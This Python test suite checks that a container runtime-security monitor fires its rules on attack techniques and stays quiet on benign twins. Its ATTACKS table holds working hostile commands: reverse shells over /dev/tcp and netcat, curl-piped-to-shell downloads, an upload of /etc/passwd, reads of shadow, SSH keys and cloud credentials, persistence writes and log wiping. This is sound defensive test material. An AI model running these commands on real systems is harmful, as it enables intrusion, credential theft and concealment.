"""Attacks as their techniques are described, each in a container of its own, against the built-in rules; and their benign twins."""
import os
import subprocess
import sys
import threading

import docker
import watch
from watch import get

BASE = ("bash", "coreutils", "dash", "util-linux", "curl", "openssh-client", "libcap2-bin", "grep", "mount")
docker.skip_unless("gcc", image_of=BASE)
watch.skip_unless()

# Programs that are recognised by their names: any executable will do.
NAMES = """xmrig nmap kubectl amicontained hydra tcpdump chisel apt-get pip gcc debugfs docker pkexec sudoedit useradd sshd-x crontab chattr pkill lscpu
    wipefs-x netcat""".split()
FREE = ["--security-opt", "seccomp=unconfined"]


# Files are watched from some milliseconds after a container's first program on, and a container that is gone cannot be looked into; how soon
# depends on the machine. What begins so goes on until it was seen.
AGAIN = "while sleep 0.5; do "


def caps(*names):
    return FREE + [word for name in names for word in ("--cap-add", name)]


# name: (rules, options of docker run, script for bash)
ATTACKS = {
    # shells over the network
    "dev-tcp": (["reverse-shell-arguments"], [], "timeout 15 bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'"),
    "dev-tcp-connects": (["shell-connects"], [], "timeout 15 bash -c 'exec 3<>/dev/tcp/203.0.113.6/8443'"),
    "fifo": (["reverse-shell-arguments"], [], "timeout 15 sh -c 'mkfifo /tmp/f; nc 203.0.113.5 9 </tmp/f | sh >/tmp/f'"),
    "shell-on-socket": (["reverse-shell"], [], "/opt/deed shell-on-socket"),
    "nc-e": (["netcat-executes"], [], "timeout 15 nc -w 10 203.0.113.5 9 -e /bin/sh"),
    "nc-l": (["backdoor-port"], [], "timeout 15 nc -l -p 4444"),
    "servers": (["shell-of-server", "tool-of-server", "shell-of-database", "server-reads-secrets"], [],
                "/opt/nginx spawn sh -c 'id >/dev/null'; /opt/nginx spawn whoami; /opt/redis-server spawn bash -c true; " + AGAIN + "/opt/nginx open /etc/shadow; done"),
    # programs that the image does not hold
    "tmp": (["exec-from-temp", "drift-executable"], [], AGAIN + "cp /opt/deed /tmp/x; /tmp/x; done"),
    "modified": (["drift-executable"], [], AGAIN + "echo x >>/opt/deed2; /opt/deed2; done"),
    "other-root": (["drift-executable"], [], AGAIN + "mkdir -p /opt/r/opt; cp /opt/deed /opt/r/opt/deed; echo x >>/opt/r/opt/deed; chroot /opt/r /opt/deed; done"),
    "removes-itself": (["drift-executable"], [], AGAIN + "cp /opt/deed /opt/gone; /opt/gone; rm /opt/gone; done"),
    "script": (["drift-script"], [], AGAIN + "printf '#!/bin/bash\\ntrue\\n' >/opt/new; chmod +x /opt/new; /opt/new; done"),
    "script-by-interpreter": (["drift-script"], [], AGAIN + "echo true >/opt/by; sh /opt/by; done"),
    "shm": (["exec-from-shm"], ["--tmpfs", "/dev/shm:exec"], AGAIN + "cp /opt/deed /dev/shm/x; /dev/shm/x; done"),
    "hidden": (["hidden-executable"], [], AGAIN + "mkdir -p /opt/.x; cp /opt/deed /opt/.x/y; /opt/.x/y; done"),
    "memory": (["fileless-execution"], [], "/opt/deed from-memory true"),
    "deleted": (["deleted-executable"], [], "cp /opt/deed /tmp/y; /opt/deed deleted /tmp/y"),
    "preload": (["drift-library", "library-from-temp"], [], AGAIN + "cp /opt/code.so /tmp/evil.so; LD_PRELOAD=/tmp/evil.so sleep 1; done"),
    "calls-home": (["dropped-program-connects"], [], AGAIN + "cp /usr/bin/curl /tmp/c; /tmp/c -m 10 http://203.0.113.9/; done"),
    "masquerade": (["masquerades-as-kernel"], [], "exec -a '[kworker/0:1]' sleep 0.1"),
    "decoded": (["decoded-payload"], [], "bash -c 'echo dHJ1ZQ== | base64 -d | sh'"),
    "download": (["download-into-shell", "download-to-temp", "upload-by-tool"], [],
                 "sh -c 'curl -m 10 http://203.0.113.5/x | sh'; curl -m 10 -o /tmp/x http://203.0.113.5/x; curl -m 10 -T /etc/passwd http://203.0.113.5/"),
    # tools by their names
    "names": (["miner-program", "network-scanner", "kubernetes-client", "escape-toolkit", "password-cracking", "sniffer", "tunnel-tool", "package-manager",
               "disk-tools", "polkit-exploit", "sudo-exploit", "immutable-attribute", "defences-stopped", "image-built-on-host", "module-attempt", "bulk-removal"],
              [], "xmrig; nmap -sS 10.0.0.0/8; kubectl get pods; amicontained; hydra; tcpdump; chisel; apt-get update; debugfs /dev/sda; pkexec; "
                  "sudoedit -s '\\'; chattr +i /etc/x; pkill falco; docker build .; insmod x.ko; shred /tmp/none"),
    "miner": (["miner-arguments", "miner-port"], [], "sleep 0 --donate-level 1 -o stratum+tcp://pool:3333; timeout 15 nc -w 10 203.0.113.5 3333"),
    "ssh": (["ssh-client", "ssh-other-port"], [], "timeout 15 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=10 -p 2022 203.0.113.5"),
    "packet": (["packet-socket"], [], "/opt/deed packet-socket"),
    # secrets
    "secrets": (["shadow-read", "ssh-key-read", "cloud-credentials-read", "service-account-token-tool", "credential-search", "environment-of-others",
                 "memory-dump"], [],
                AGAIN + "cat /etc/shadow /root/.ssh/id_rsa /root/.aws/credentials; cat /run/secrets/kubernetes.io/serviceaccount/token; grep -r AKIA /root; "
                "cat /proc/1/environ; dd if=/proc/1/mem of=/dev/null count=0; done"),
    "metadata": (["metadata-service", "metadata-service-first"], [], "/opt/nginx open /etc/hosts; curl -m 10 http://169.254.169.254/latest/"),
    "api-ports": (["engine-api-port", "kubernetes-api-tool"], [], "timeout 15 nc -w 10 203.0.113.5 2375; curl -m 10 -k https://203.0.113.5:6443/api"),
    # ways out
    "privileged": (["privileged-container"], ["--privileged"], "sleep 1"),
    "host-pid": (["host-namespaces"], ["--pid=host"], "sleep 1"),
    "host-root": (["sensitive-mount", "chroot-to-host"], ["-v", "/etc:/host/etc:ro"], "chroot /host /bin/true; sleep 1"),
    "capabilities": (["excessive-capabilities", "mount-in-container", "namespace-entered", "nsenter", "mount-tool"], caps("SYS_ADMIN"),
                     "mount -t tmpfs none /mnt; mount -t proc proc /mnt; nsenter -t 1 -m -u true; sleep 1"),
    "mount-attempt": (["mount-attempt"], FREE, "mount -t tmpfs none /mnt"),
    "left": (["host-namespace-reached"], caps("SYS_ADMIN", "SYS_PTRACE") + ["--pid=host"], f"nsenter -t {os.getpid()} -m /bin/true"),
    "user-namespace": (["user-namespace-made"], FREE, "unshare -U true"),
    "engine": (["engine-socket-mount", "engine-client"], ["-v", "SOCKET:/var/run/docker.sock"],
               "curl -s --unix-socket /var/run/docker.sock http://engine/containers/json >/dev/null; sleep 1"),
    "service-user": (["service-user-shell"], ["-t", "--user", "33"], "true"),
    "chroot": (["chroot-capability"], [], "chroot / /bin/true"),
    "helpers": (["release-agent", "core-pattern", "kernel-helper-files", "host-through-proc"], [],
                "sh -c 'echo x > /tmp/release_agent'; sh -c 'true > /proc/sys/kernel/core_pattern'; sh -c 'true > /proc/sys/kernel/modprobe'; ls /proc/1/root >/dev/null"),
    "runtime": (["runtime-overwritten"], [], AGAIN + "/opt/deed write /usr/bin/runc; done"),
    "node": (["device-node-made"], [], "mknod /tmp/null c 1 3"),
    "handle": (["open-by-handle"], caps("DAC_READ_SEARCH"), "/opt/deed handle"),
    "trace": (["process-traced"], caps("SYS_PTRACE"), "/opt/deed trace"),
    "read-memory": (["memory-of-others"], caps("SYS_PTRACE"), "/opt/deed read-memory"),
    "userfaultfd": (["userfaultfd"], FREE, "/opt/deed as-user /opt/deed userfaultfd"),
    "io-uring": (["io-uring"], FREE, "/opt/deed io-uring"),
    "bpf": (["bpf-loaded"], caps("SYS_ADMIN", "NET_ADMIN"), "/opt/deed bpf"),
    "bpf-attempt": (["bpf-attempt"], FREE, "/opt/deed bpf"),
    "reboot": (["machine-halted"], FREE, "/opt/deed reboot"),
    "clock": (["clock-changed"], caps("SYS_TIME"), "/opt/deed tick"),
    # to stay, and to become more
    "stays": (["cron-job", "authorized-keys", "accounts-changed", "shell-startup-file", "preload-file", "entry-point-changed", "package-source-changed",
               "service-unit"], [],
              AGAIN + "for f in /etc/cron.d/x /root/.ssh/authorized_keys /etc/passwd /root/.bashrc /etc/ld.so.preload /docker-entrypoint.sh "
              "/etc/apt/sources.list.d/x.list /etc/systemd/system/x.service; do /opt/deed write $f; done; done"),
    "setuid": (["setuid-bit", "setcap", "setuid-drifted", "setuid-program"], [],
               AGAIN + "cp /opt/deed /opt/s; chmod u+s /opt/s; setcap cap_setuid+ep /opt/deed2; /opt/deed as-user /opt/s; done"),
    "liblzma": (["backdoored-liblzma"], [], "/opt/sshd map /opt/liblzma.so.5.6.1"),
    # traces
    "traces": (["logs-cleared", "history-cleared", "link-over-sensitive"], [],
               "rm /var/log/wtmp; sh -c ': > /var/log/auth.log'; rm /root/.bash_history; ln -s /etc/shadow /tmp/s"),
}

# name: (options, command) of `docker exec`, in a container that runs
ENTERED = {
    "shell-with-terminal": (["-t"], ["bash", "-c", "true"]),
    "reconnaissance": (["-t"], ["whoami"]),
    "compiler-at-run-time": (["-t"], ["gcc"]),
    "language-package-manager": ([], ["pip", "install", "x"]),
    "account-tool": ([], ["useradd", "x"]),
    "crontab-edited": ([], ["crontab", "-"]),
    "ssh-server": ([], ["/opt/sshd"]),
    "times-changed": ([], ["touch", "-r", "/bin/ls", "/tmp/x"]),
    "archive-through-engine": ([], ["tar", "cf", "-", "/etc/hosts"]),
}

# The same tools and calls as they are used by right.
TWINS = {
    "shells": ([], "bash -c 'exec 3<>/dev/tcp/127.0.0.1/9' 2>/dev/null; timeout 15 nc -w 10 127.0.0.1 9; timeout 3 nc -l -p 4444 -s 127.0.0.1"),
    "server": ([], "/opt/nginx open /etc/hosts; /opt/nginx spawn /opt/deed; /opt/redis-server open /etc/passwd"),
    "own-programs": ([], "chmod 700 /opt/deed; /opt/deed; chown 1:1 /opt/deed2; /opt/deed2; mv /opt/deed /opt/moved; /opt/moved; touch /opt/deed2; /opt/deed2; sleep 1"),
    "temporary-files": ([], "cp /opt/deed /tmp/x; rm /tmp/x; echo data >/tmp/y; cat /tmp/y; mkfifo /tmp/f; mkdir /tmp/.hidden; echo x >/dev/shm/z; rm /dev/shm/z"),
    "downloads": ([], "curl -m 10 -s http://203.0.113.5/health; curl -m 10 -s -o /opt/x http://203.0.113.5/x; echo aGk= | base64 -d"),
    "reads": ([], "sleep 0.5; cat /etc/passwd /etc/hosts /root/.ssh/known_hosts /root/.aws/other; grep root /etc/passwd; cat /proc/self/status /proc/1/stat >/dev/null; ls /root"),
    "kernel-files": ([], "sleep 0.5; cat /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe; mount >/dev/null; df >/dev/null; ls /proc/1 >/dev/null"),
    "accounts": ([], "id; getent passwd root; whoami; touch /tmp/new; ln -s /opt/deed /tmp/link; chmod 755 /tmp/new; rm /tmp/new; dd if=/dev/zero of=/tmp/z count=1"),
    "entry-script": ([], "sleep 0.5; echo 'app:x:1000:1000::/:/bin/sh' >>/etc/passwd; echo 'PS1=x' >>/root/.profile; mkdir -p /var/log/app; echo x >/var/log/app/log; rm -rf /var/log/app"),
    "own-port": ([], "/opt/deed io; timeout 3 busybox httpd -f -p 8080; sleep 0 --threads 4 -o out"),
}


def files():
    deed = docker_deed()
    plain = (b"secret\n", 0o600)
    made = {"opt/" + name: (deed + name.encode(), 0o755) for name in ("deed", "deed2", "nginx", "redis-server", "sshd")}
    made.update({"usr/local/bin/" + name: "-> /opt/deed" for name in NAMES})
    made.update({"opt/code.so": (code_so(), 0o644), "opt/liblzma.so.5.6.1": (b"x" * 8192, 0o644), "etc/hosts": b"127.0.0.1 localhost\n", "mnt/x": b"", "etc/cron.d/own": b""})
    for path in ("etc/shadow", "root/.ssh/id_rsa", "root/.aws/credentials", "run/secrets/kubernetes.io/serviceaccount/token", "root/.bash_history", "var/log/wtmp",
                 "var/log/auth.log", "root/.bashrc", "root/.profile", "root/.ssh/authorized_keys", "root/.ssh/known_hosts", "root/.aws/other"):
        made[path] = plain
    made.update({"docker-entrypoint.sh": b"#!/bin/sh\n", "etc/apt/sources.list.d/own.list": b"", "etc/systemd/system/own.service": b"", "host/bin/x": b""})
    return made


def compiled(*arguments, source):
    folder = engine.folder / "made"
    folder.mkdir(exist_ok=True)
    subprocess.run(["gcc", "-O1", "-o", folder / "out", *arguments, source], check=True, capture_output=True)
    return (folder / "out").read_bytes()


def docker_deed():
    return compiled("-static", source=watch.HERE / "deed.c")


def code_so():
    empty = engine.folder / "empty.c"
    empty.write_text("int nothing(void) { return 0; }\n")
    return compiled("-shared", "-fPIC", source=empty)


def rules_of(w, name):
    return {get(r, "alert.rule") for r in w.all("alert", container__name=name)}


def at_once(works):
    """Runs them four at a time."""
    works, lock, failed = list(works), threading.Lock(), []

    def worker():
        while True:
            with lock:
                if not works:
                    return
                work = works.pop()
            try:
                work()
            except Exception as error:
                failed.append(error)
    threads = [threading.Thread(target=worker) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    if failed:
        raise failed[0]


def run(w, name, options, script, rules=()):
    """Runs it to its end; what goes on and on is ended when it has triggered the rules, or has not for a long time."""
    options = [word.replace("SOCKET", engine.socket) for word in options]
    goes_on = AGAIN in script
    engine("run", *(["-d"] if goes_on else []), "--name", name, *options, "tools", "bash", "-c", script + "\n:", status=None)
    if goes_on:
        triggers(w, name, rules)
        engine("kill", name, status=None)


def triggers(w, name, rules):
    """Waits for them; those that did not come."""
    try:
        docker.wait_until(lambda: not set(rules) - rules_of(w, name))
    except AssertionError:
        pass
    return set(rules) - rules_of(w, name)


def settle(w, names):
    """Until all is over that the containers did; gives those that could not be started, which is so of privileged ones where root itself has
    not all capabilities."""
    refused = {name for name in names if engine("inspect", "-f", "{{.State.ExitCode}}", name) == "128" or "privileged" in name and
               engine("inspect", "-f", "{{.State.Error}}", name)}
    for name in set(names) - refused:
        w.one("container_stop", container__name=name)
    return refused


def attacks(w):
    """each attack triggers its rules"""
    at_once([lambda n=n, a=a: run(w, "attack-" + n, a[1], a[2], a[0]) for n, a in ATTACKS.items()])
    refused = settle(w, ["attack-" + n for n in ATTACKS])
    for name in refused:
        print(f"# {name} could not be started here")
    triggered, missing = set(), []
    for name, (rules, _, _) in ATTACKS.items():
        if "attack-" + name in refused:
            continue
        left = triggers(w, "attack-" + name, rules)
        triggered |= set(rules) - left
        if left:
            missing.append(f"{name}: {sorted(left)} (there were {sorted(rules_of(w, 'attack-' + name))})")
    live.update(triggered)
    assert not missing, "\n".join(missing)


def entered(w):
    """what is done by docker exec in a running container triggers its rules"""
    engine("run", "-d", "--name", "runs", "tools", "sleep", "1000")
    for options, command in ENTERED.values():
        engine("exec", *options, "runs", *command, status=None)
    left = triggers(w, "runs", ENTERED)
    live.update(set(ENTERED) - left)
    assert not left, sorted(left)


def twins(w):
    """their benign twins trigger nothing"""
    at_once([lambda n=n, t=t: run(w, "twin-" + n, t[0], t[1]) for n, t in TWINS.items()])
    settle(w, ["twin-" + n for n in TWINS])
    run(w, "last", [], AGAIN + "cp /opt/deed /tmp/x; /tmp/x; done", ["drift-executable"])  # questions of drift are answered in their order
    assert "drift-executable" in rules_of(w, "last")
    wrong = [f"{n}: {sorted(rules_of(w, 'twin-' + n))}" for n in TWINS if rules_of(w, "twin-" + n)]
    assert not wrong, "\n".join(wrong)


def ended(w):
    """a container that ends what watches it is told of with the last words"""
    engine("run", "--name", "killer", "--pid=host", "tools", "bash", "-c", f"kill -TERM {w.child.pid}")
    w.child.wait(docker.PATIENCE_S)
    alerts = [r for r in w.end() if r["kind"] == "alert" and get(r, "alert.rule") == "agent-signalled"]
    assert [r for r in alerts if get(r, "container.id") == engine.container_id("killer")], alerts
    live.add("agent-signalled")


live = set()
with docker.Docker() as engine:
    engine.import_image("tools", files(), packages=BASE)
    with watch.Watch(engine, "--all-alerts") as watching:
        failed = docker.main([attacks, entered, twins, ended], watching)
    print(f"# {len(live)} rules triggered live: {' '.join(sorted(live))}")
sys.exit(failed)
